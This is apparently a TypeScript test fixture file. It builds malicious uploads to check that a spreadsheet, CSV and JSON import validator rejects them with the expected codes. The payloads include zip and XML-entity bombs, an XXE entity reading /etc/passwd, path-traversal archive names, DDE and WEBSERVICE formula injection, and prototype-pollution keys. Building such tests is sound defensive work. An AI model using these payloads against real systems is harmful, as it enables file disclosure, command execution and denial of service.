// Files made to harm whoever opens them, each small to keep and built here by the byte.
import { deflateRawSync, constants } from 'node:zlib';
import { makeArchive, workbookParts, type Part } from './make-archive.ts';

export interface HostileFile {
	readonly what: string;
	readonly name: string;
	readonly make: () => Uint8Array;
	/** codes of what the sender is told, each once */
	readonly codes: readonly string[];
	/** something of it can be understood, and the rest is said */
	readonly readable?: true;
	/** texts of the values that are taken all the same */
	readonly stored?: readonly string[];
}

const MEGABYTE = 1024 * 1024;
const encode = (text: string): Uint8Array => new TextEncoder().encode(text);
const HEAD = ['district', 'section', 'indicator', 'input', 'value'];
const csv = (...rows: readonly string[]): Uint8Array => encode([HEAD.join(','), ...rows, ''].join('\n'));

const letter = (column: number): string =>
	(column < 26 ? '' : letter(Math.floor(column / 26) - 1)) + String.fromCharCode(65 + (column % 26));
const text = (ref: string, word: string): string => `<c r="${ref}" t="inlineStr"><is><t>${word}</t></is></c>`;
const row = (number: number, cells: readonly string[]): string =>
	`<row r="${number}">${cells.map((cell, n) => text(`${letter(n)}${number}`, cell)).join('')}</row>`;
const head = row(1, HEAD);
const entry = row(2, ['4005', 'team', '1', 'spent_baht', '5']);

/** `block` so many times over, deflated without ever being whole in memory. */
const repeatDeflated = (block: string, times: number): Uint8Array => {
	const one = deflateRawSync(block, { finishFlush: constants.Z_FULL_FLUSH });
	return Buffer.concat([...Array.from({ length: times }, () => one), deflateRawSync('')]);
};
const swapSheet = (parts: readonly Part[], change: (part: Part) => Part): readonly Part[] =>
	parts.map((part) => (part.name.endsWith('sheet1.xml') ? change(part) : part));
const book = (rows: string, before = ''): readonly Part[] =>
	swapSheet(workbookParts(rows), (part) => ({ ...part, content: `${before}${String(part.content)}` }));
const bomb = (claimed: number): Uint8Array =>
	makeArchive(
		swapSheet(workbookParts(head), (part) => ({
			...part,
			deflated: repeatDeflated('<c><v>1</v></c>'.repeat(MEGABYTE / 15), 424),
			claimed
		}))
	);
/** Bytes that do not shrink, so that the whole does not look too good to be true. */
const ballast = (size: number): Part => {
	const bytes = new Uint8Array(size);
	for (let at = 0, state = 1; at < size; at += 1) {
		state = (Math.imul(state, 1103515245) + 12345) & 0x7fffffff;
		bytes[at] = state >> 16;
	}
	return { name: 'xl/media/image1.png', content: bytes };
};

const openDocument = (rows: string, before = ''): Uint8Array =>
	makeArchive([
		{ name: 'mimetype', content: 'application/vnd.oasis.opendocument.spreadsheet' },
		{
			name: 'content.xml',
			content: `${before}<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:spreadsheet><table:table table:name="ผล">${rows}</table:table></office:spreadsheet></office:body></office:document-content>`
		},
		{ name: 'META-INF/manifest.xml', content: '<manifest:manifest/>' },
		ballast(MEGABYTE / 4)
	]);

export const hostileFiles: readonly HostileFile[] = [
	{
		what: 'a megabyte that unfolds to 424',
		name: 'ผล.xlsx',
		make: () => bomb(424 * MEGABYTE),
		codes: ['too_big_unfolded']
	},
	{ what: 'a bomb that says it is small', name: 'ผล.xlsx', make: () => bomb(1000), codes: ['broken_archive'] },
	{ what: 'a bomb that says it is empty', name: 'ผล.xlsx', make: () => bomb(0), codes: ['broken_archive'] },
	{
		what: '36 MB of cells beside a picture',
		name: 'ผล.xlsx',
		make: () =>
			makeArchive([...book(`${head}<row>${'<c><v>1</v></c>'.repeat(2_400_000)}</row>`), ballast(MEGABYTE / 2)]),
		codes: ['too_many_cells_in_workbook']
	},
	{
		what: '35 MB of cells in rows',
		name: 'ผล.xlsx',
		make: () =>
			makeArchive([
				...book(`${head}${`<row>${'<c><v>1</v></c>'.repeat(16)}</row>`.repeat(140_000)}`),
				ballast(MEGABYTE / 2)
			]),
		codes: ['too_many_cells_in_workbook']
	},
	{
		what: '36 MB of empty rows',
		name: 'ผล.xlsx',
		make: () => makeArchive([...book(`${head}${'<row/>'.repeat(6_000_000)}`), ballast(MEGABYTE / 2)]),
		codes: ['too_many_cells_in_workbook']
	},
	{
		what: 'one cell of 36 MB',
		name: 'ผล.xlsx',
		make: () =>
			makeArchive([
				...book(head + row(2, ['4005', 'team', '1', 'spent_baht', 'ก'.repeat(12 * MEGABYTE)])),
				ballast(MEGABYTE / 2)
			]),
		codes: ['too_long'],
		readable: true
	},
	{
		what: 'a long district in every row',
		name: 'ผล.xlsx',
		make: () =>
			makeArchive([
				...book(
					head +
						Array.from({ length: 600 }, (_, n) =>
							row(n + 2, ['ชุมแพ'.repeat(4000), 'team', '1', 'spent_baht', '5'])
						).join('')
				),
				ballast(MEGABYTE / 2)
			]),
		codes: ['unknown_district'],
		readable: true
	},
	{
		what: 'billion laughs',
		name: 'ผล.xlsx',
		make: () =>
			makeArchive(
				book(
					head + row(2, ['4005', 'team', '1', 'spent_baht', '&lol9;']),
					`<!DOCTYPE worksheet [<!ENTITY lol "lol">${Array.from({ length: 9 }, (_, n) => `<!ENTITY lol${n + 1} "${`&lol${n === 0 ? '' : n};`.repeat(10)}">`).join('')}]>`
				)
			),
		codes: ['declarations']
	},
	{
		what: 'an entity that names a file of the server',
		name: 'ผล.xlsx',
		make: () =>
			makeArchive(
				book(
					head + row(2, ['4005', 'team', '1', 'spent_baht', '&xxe;']),
					'<!DOCTYPE w [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
				)
			),
		codes: ['declarations']
	},
	{
		what: 'a row beyond the last',
		name: 'ผล.xlsx',
		make: () => makeArchive(book(`${head}${entry}<row r="2000000"><c r="A2000000"><v>1</v></c></row>`)),
		codes: ['broken_archive']
	},
	{
		what: 'a column beyond the last',
		name: 'ผล.xlsx',
		make: () => makeArchive(book(`${head}${entry}<row r="3"><c r="ZZZZ3"><v>1</v></c></row>`)),
		codes: ['broken_archive']
	},
	{
		what: 'a million columns in a sheet',
		name: 'ผล.xlsx',
		make: () => makeArchive(book(`<row r="1">${'<c><v>1</v></c>'.repeat(1_000_000)}</row>`)),
		codes: ['too_big_unfolded']
	},
	{
		what: 'parts that all stand on the same bytes',
		name: 'ผล.xlsx',
		make: () =>
			makeArchive([
				...workbookParts(head),
				...Array.from({ length: 900 }, (_, n) => ({ name: `xl/worksheets/s${n}.xml`, content: '', sameAs: 4 }))
			]),
		codes: ['overlapping_parts']
	},
	{
		what: 'two parts of one name',
		name: 'ผล.xlsx',
		make: () => makeArchive([...book(head + entry), ...book(head).slice(4)]),
		codes: ['overlapping_parts']
	},
	{
		what: 'nine thousand parts of a little each',
		name: 'ผล.xlsx',
		make: () => {
			const little = { content: '', deflated: deflateRawSync(' '.repeat(40_000)), claimed: 40_000 };
			const parts = Array.from({ length: 9000 }, (_, n) => ({ name: `xl/media/${n}.bin`, ...little }));
			return makeArchive([...workbookParts(head), ...parts]);
		},
		codes: ['too_big_unfolded']
	},
	{
		what: 'a 64-bit directory behind the one that is shown',
		name: 'ผล.xlsx',
		make: () => {
			const bytes = makeArchive(workbookParts(head + entry));
			// the size of the directory says: look in the 64-bit record, which is not there
			new DataView(bytes.buffer).setUint32(bytes.length - 10, 0xffffffff, true);
			return bytes;
		},
		codes: ['broken_archive']
	},
	{
		what: 'an archive within an archive within an archive',
		name: 'ผล.xlsx',
		make: () =>
			Array.from({ length: 20 }).reduce<Uint8Array>(
				(inner) => makeArchive([{ name: 'ผล.xlsx', content: inner }]),
				makeArchive(workbookParts(head))
			),
		codes: ['not_workbook']
	},
	{
		what: 'shared strings of 100 MB',
		name: 'ผล.xlsx',
		make: () =>
			makeArchive([
				...workbookParts(head),
				{
					name: 'xl/sharedStrings.xml',
					content: '',
					deflated: repeatDeflated('<si><t>ก</t></si>'.repeat(50_000), 100),
					claimed: 100 * MEGABYTE
				}
			]),
		codes: ['too_big_unfolded']
	},
	{
		what: 'four hundred sheets that share a megabyte',
		name: 'ผล.xlsx',
		make: () =>
			makeArchive([
				...workbookParts(head),
				...Array.from({ length: 400 }, (_, n) => ({
					name: `xl/worksheets/sheet${n + 2}.xml`,
					content: '<worksheet/>'
				})),
				{ name: 'xl/sharedStrings.xml', content: `<sst>${'<si><t>กขค</t></si>'.repeat(50_000)}</sst>` },
				ballast(MEGABYTE / 4)
			]),
		codes: ['too_much_work']
	},
	{
		what: 'a hundred thousand merged areas over one another',
		name: 'ผล.xlsx',
		make: () => {
			const rows = Array.from({ length: 1000 }, (_, n) => row(n + 2, ['4005', 'team', '1', 'spent_baht', '5'])).join(
				''
			);
			const merges = '<mergeCell ref="A1:CV1001"/>'.repeat(100_000);
			return makeArchive([
				...swapSheet(workbookParts(head + rows), (part) => ({
					...part,
					content: String(part.content).replace('</worksheet>', `<mergeCells>${merges}</mergeCells></worksheet>`)
				})),
				ballast(MEGABYTE / 4)
			]);
		},
		codes: [],
		readable: true,
		stored: ['5']
	},
	{
		what: 'names that lead out of the folder, and names of devices',
		name: 'ผล.xlsx',
		make: () =>
			makeArchive([
				...book(head + entry),
				...['../../etc/cron.d/x', '/etc/passwd', 'C:\\Windows\\x', 'a\0b.xml', 'CON', 'xl/../../../x.xml'].map(
					(name) => ({ name, content: 'x' })
				)
			]),
		codes: [],
		readable: true,
		stored: ['5']
	},
	{
		what: 'macros and links to other files',
		name: 'ผล.xlsm',
		make: () =>
			makeArchive([
				...book(head + entry),
				{ name: 'xl/vbaProject.bin', content: 'x' },
				{ name: 'xl/externalLinks/externalLink1.xml', content: '<externalLink/>' }
			]),
		codes: ['macros', 'external_links'],
		readable: true,
		stored: ['5']
	},
	{
		what: 'formulas that call out',
		name: 'ผล.xlsx',
		make: () =>
			makeArchive(
				book(
					`${head}<row r="2">${['4005', 'team', '1', 'spent_baht'].map((word, n) => text(`${letter(n)}2`, word)).join('')}<c r="E2"><f>WEBSERVICE("http://203.0.113.9")</f></c></row>` +
						`<row r="3">${['4007', 'team', '1', 'spent_baht'].map((word, n) => text(`${letter(n)}3`, word)).join('')}<c r="E3" t="str"><f>cmd|'/c calc'!A0</f><v>#REF</v></c></row>`
				)
			),
		codes: ['broken_cell', 'not_a_figure'],
		readable: true
	},
	{
		what: 'formulas as text',
		name: 'ผล.csv',
		make: () =>
			csv(`4005,team,1,spent_baht,"=WEBSERVICE(""http://203.0.113.9"")"`, "4007,team,1,spent_baht,=cmd|'/c calc'!A0"),
		codes: ['not_a_figure'],
		readable: true
	},
	{
		what: '257 MB',
		name: 'ผล.csv',
		make: () => new Uint8Array(257 * MEGABYTE).fill(0x20),
		codes: ['too_big']
	},
	{
		what: 'an OpenDocument sheet of empty cells without end',
		name: 'ผล.ods',
		make: () =>
			openDocument(
				'<table:table-row><table:table-cell table:number-columns-repeated="16384"/></table:table-row>'.repeat(100_000)
			),
		codes: ['no_table']
	},
	{
		what: 'an OpenDocument row that is repeated a million times',
		name: 'ผล.ods',
		make: () =>
			openDocument(
				'<table:table-row table:number-rows-repeated="1048576"><table:table-cell table:number-columns-repeated="16384" office:value-type="float" office:value="1"><text:p>1</text:p></table:table-cell></table:table-row>'
			),
		codes: ['too_many_cells_in_workbook']
	},
	{
		what: 'an OpenDocument cell merged over everything, and empty rows below',
		name: 'ผล.ods',
		make: () =>
			openDocument(
				'<table:table-row><table:table-cell table:number-rows-spanned="1048576" table:number-columns-spanned="16384"><text:p>1</text:p></table:table-cell></table:table-row>' +
					'<table:table-row><table:table-cell table:number-columns-repeated="16384"/></table:table-row>'.repeat(100_000)
			),
		codes: ['no_table']
	},
	{
		what: 'billion laughs in OpenDocument',
		name: 'ผล.ods',
		make: () =>
			openDocument(
				'<table:table-row><table:table-cell><text:p>&lol;</text:p></table:table-cell></table:table-row>',
				'<!DOCTYPE x [<!ENTITY lol "lol">]>'
			),
		codes: ['declarations']
	},
	{
		what: 'elements 200,000 deep in OpenDocument',
		name: 'ผล.ods',
		make: () => openDocument('<a>'.repeat(200_000)),
		codes: ['broken_document']
	},
	{
		what: 'a million columns',
		name: 'ผล.csv',
		make: () => encode(`district,${Array.from({ length: 1_000_000 }, (_, n) => `team/1/x${n}`).join(',')}\n`),
		codes: ['too_wide']
	},
	{
		what: 'a million nameless columns',
		name: 'ผล.csv',
		make: () => encode(`district,team/1/spent_baht${','.repeat(1_000_000)}\n4005,5\n`),
		codes: ['too_wide']
	},
	{
		what: 'a million cells beside the table',
		name: 'ผล.csv',
		make: () => csv(`4005,team,1,spent_baht,5${',1'.repeat(1_000_000)}`),
		codes: ['too_wide']
	},
	{
		what: 'a cell of 50 MB',
		name: 'ผล.csv',
		make: () => csv(`4005,team,1,spent_baht,${'9'.repeat(50 * MEGABYTE)}`),
		codes: ['too_long'],
		readable: true
	},
	{
		what: 'a district of 50 MB',
		name: 'ผล.csv',
		make: () => csv(`${'ชุมแพ'.repeat(3 * MEGABYTE)},team,1,spent_baht,5`),
		codes: ['too_long'],
		readable: true
	},
	{
		what: 'a quotation mark never closed over 50 MB',
		name: 'ผล.csv',
		make: () => csv(`4005,team,1,spent_baht,"5\n${'4005,team,1,spent_baht,5\n'.repeat(2 * MEGABYTE)}`),
		codes: ['open_quote']
	},
	{
		what: 'different wrong districts',
		name: 'ผล.csv',
		make: () => csv(Array.from({ length: 100_000 }, (_, n) => `ชุม${n}แพ,team,1,spent_baht,5`).join('\n')),
		codes: ['unknown_district', 'too_many_problems']
	},
	{
		what: 'quotation marks without end',
		name: 'ผล.csv',
		make: () => csv('"'.repeat(20 * MEGABYTE)),
		codes: ['open_quote']
	},
	{
		what: 'empty lines',
		name: 'ผล.csv',
		make: () => encode('\n'.repeat(50 * MEGABYTE)),
		codes: ['empty']
	},
	{
		what: 'brackets 100,000 deep',
		name: 'ผล.json',
		make: () => encode('['.repeat(100_000)),
		codes: ['broken_json']
	},
	{
		what: 'objects 100,000 deep',
		name: 'ผล.json',
		make: () => encode('{"a":'.repeat(100_000)),
		codes: ['broken_json']
	},
	{
		what: 'a number of a million digits',
		name: 'ผล.json',
		make: () =>
			encode(`[{"district":"4005","section":"team","indicator":"1","inputs":{"spent_baht":${'9'.repeat(MEGABYTE)}}}]`),
		codes: ['not_a_figure'],
		readable: true
	},
	{
		what: 'an exponent of a million',
		name: 'ผล.json',
		make: () => encode(`[{"district":"4005","section":"team","indicator":"1","inputs":{"spent_baht":1e1000000}}]`),
		codes: ['not_a_figure'],
		readable: true
	},
	{
		what: 'a list of a million',
		name: 'ผล.json',
		make: () =>
			encode(
				`[{"district":"4005","section":"team","indicator":"2","inputs":{"project_progress_pcts":[${'1,'.repeat(MEGABYTE)}1]}}]`
			),
		codes: ['list_too_long'],
		readable: true
	},
	{
		what: 'a list of a million in a cell',
		name: 'ผล.csv',
		make: () => csv(`4005,team,2,project_progress_pcts,${'1;'.repeat(MEGABYTE)}1`),
		codes: ['too_long'],
		readable: true
	},
	{
		what: 'a district of a million letters in JSON',
		name: 'ผล.json',
		make: () =>
			encode(`[{"district":"${'ช'.repeat(MEGABYTE)}","section":"team","indicator":"1","inputs":{"spent_baht":5}}]`),
		codes: ['unknown_district'],
		readable: true
	},
	{
		what: 'a million keys',
		name: 'ผล.json',
		make: () =>
			encode(
				`[{"district":"4005","section":"team","indicator":"1","inputs":{${Array.from({ length: 1_000_000 }, (_, n) => `"k${n}":1`).join(',')}}}]`
			),
		codes: ['unknown_input', 'too_many_problems']
	},
	{
		what: 'keys of an object’s own making',
		name: 'ผล.json',
		make: () =>
			encode(
				`[{"__proto__":{"district":"4005"},"constructor":1,"district":"4005","section":"team","indicator":"1","inputs":{"__proto__":5,"toString":6}}]`
			),
		codes: ['unused_key', 'unknown_input'],
		readable: true
	},
	{
		what: 'a million records that are none',
		name: 'ผล.json',
		make: () => encode(`[${'{},'.repeat(1_000_000)}{}]`),
		codes: ['missing_key', 'too_many_problems']
	}
];
